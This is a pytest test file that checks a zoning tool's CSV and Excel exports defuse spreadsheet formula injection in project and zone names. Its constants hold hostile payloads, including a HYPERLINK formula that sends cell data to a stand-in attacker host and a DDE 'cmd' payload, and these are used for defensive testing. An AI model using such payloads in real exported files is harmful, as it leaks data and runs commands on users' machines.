"""Formula injection (issue 19): hostile project and zone names never become live formulas.

A batch whose project names and zone names are spreadsheet formulas goes through
``python -m zoning screen`` as CSV and XLSX (and the zip bundle's workbook). The workbook is
opened with openpyxl and the CSV read as text; what counts as a formula is written out here
on its own (OWASP "CSV Injection": a cell starting with = + - @, or a tab/CR then one of
them), not taken from the code under test.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
import shapely
from click.testing import CliRunner
from openpyxl import load_workbook

from tests.zoning._engine_support import X0, Y0, lonlat, rect, write_gpkg, zone_frame
from zoning.cli import cli
from zoning.report.formulas import csv_cell, is_formula_text

HOSTILE_PROJECTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
HOSTILE_ZONE = '=HYPERLINK("http://evil.example/?z="&B2,"z")'
HOSTILE_LAYER_SOURCE = "@cmd|' /C calc'!A0"


def _formula_like(text: str) -> bool:
    """Would Excel/WPS evaluate this text cell? (independent of zoning.report.formulas)"""
    stripped = text[1:] if text[:1] in ("\t", "\r") else text
    return stripped[:1] in ("=", "+", "-", "@")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A store whose grade-1 zone has a formula for a name and source, and a batch of projects
    named like formulas: four inside that zone, one 3 km away."""
    tmp = tmp_path_factory.mktemp("hostile")
    store = write_gpkg(tmp / "zones.gpkg", {
        "water_source": zone_frame([{"name": HOSTILE_ZONE, "grade": "一级", "legal_status": "示意",
                                     "source": HOSTILE_LAYER_SOURCE, "geometry": rect(X0, Y0, 1000, 1000)}]),
        "admin": zone_frame([{"adcode": "430626", "name": "=平江县", "level": "区县",
                              "geometry": rect(X0 - 30_000, Y0 - 30_000, 60_000, 60_000)}]),
    })  # fmt: skip
    points = [lonlat(shapely.Point(X0 + 100 + 100 * i, Y0 + 500)) for i in range(4)]
    points.append(lonlat(shapely.Point(X0 - 3000, Y0 + 500)))
    features = [{"type": "Feature", "properties": {"name": name, "类型": "industrial"},
                 "geometry": {"type": "Point", "coordinates": [p.x, p.y]}}
                for name, p in zip(HOSTILE_PROJECTS, points, strict=True)]  # fmt: skip
    batch = tmp / "hostile.geojson"
    batch.write_text(json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False), "utf-8")
    return store, batch


def _screen(hostile: tuple[Path, Path], fmt: str, out: Path, *extra: str) -> bytes:
    store, batch = hostile
    res = CliRunner().invoke(cli, ["screen", str(batch), "--type-field", "类型", "--zones", str(store),
                                   "--format", fmt, "-o", str(out), *extra])  # fmt: skip
    assert res.exit_code == 0, res.output
    return out.read_bytes()


def check_csv(data: bytes) -> list[list[str]]:
    """No CSV field is formula-like text (numbers such as -12.5 are numbers); the hostile
    names are there, behind an apostrophe."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    live = [field for row in rows for field in row if _formula_like(field) and not _is_number(field)]
    assert live == []
    fields = {field for row in rows for field in row}
    assert "'" + HOSTILE_PROJECTS[0] in fields and "'-2+3" in fields and "'@SUM(A1)" in fields
    return rows


def check_workbook(data: bytes, names: list[str]) -> None:
    """No cell of any sheet is a formula; every formula-like text cell is a quote-prefixed
    string; ``names`` are there exactly, as text."""
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    assert set(names) <= set(texts)


def test_csv_through_the_cli_has_no_formula(hostile, tmp_path: Path) -> None:
    rows = check_csv(_screen(hostile, "csv", tmp_path / "h.csv"))
    header = rows[0]
    feature, area = header.index("要素名称"), header.index("项目面积(m²)")
    assert {row[feature] for row in rows[1:5]} == {"'" + HOSTILE_ZONE}
    assert all(_is_number(row[area]) for row in rows[1:])  # numbers stay numbers


def test_xlsx_and_the_bundles_workbook_through_the_cli_have_no_formula(hostile, tmp_path: Path) -> None:
    names = [*HOSTILE_PROJECTS[:4], HOSTILE_ZONE]
    check_workbook(_screen(hostile, "xlsx", tmp_path / "h.xlsx", "--lang", "en"), names)
    bundle = _screen(hostile, "zip", tmp_path / "h.zip")
    check_workbook(zipfile.ZipFile(io.BytesIO(bundle)).read("conflicts.xlsx"), names)


def test_negative_numbers_stay_numbers_and_only_text_is_defused() -> None:
    assert [csv_cell(v) for v in (-2.5, 0, "-2+3", "\r@x", "甲=1", "", "a-b")] == [
        -2.5, 0, "'-2+3", "'\r@x", "甲=1", "", "a-b"]
    assert not is_formula_text("\t甲") and not is_formula_text(-1)
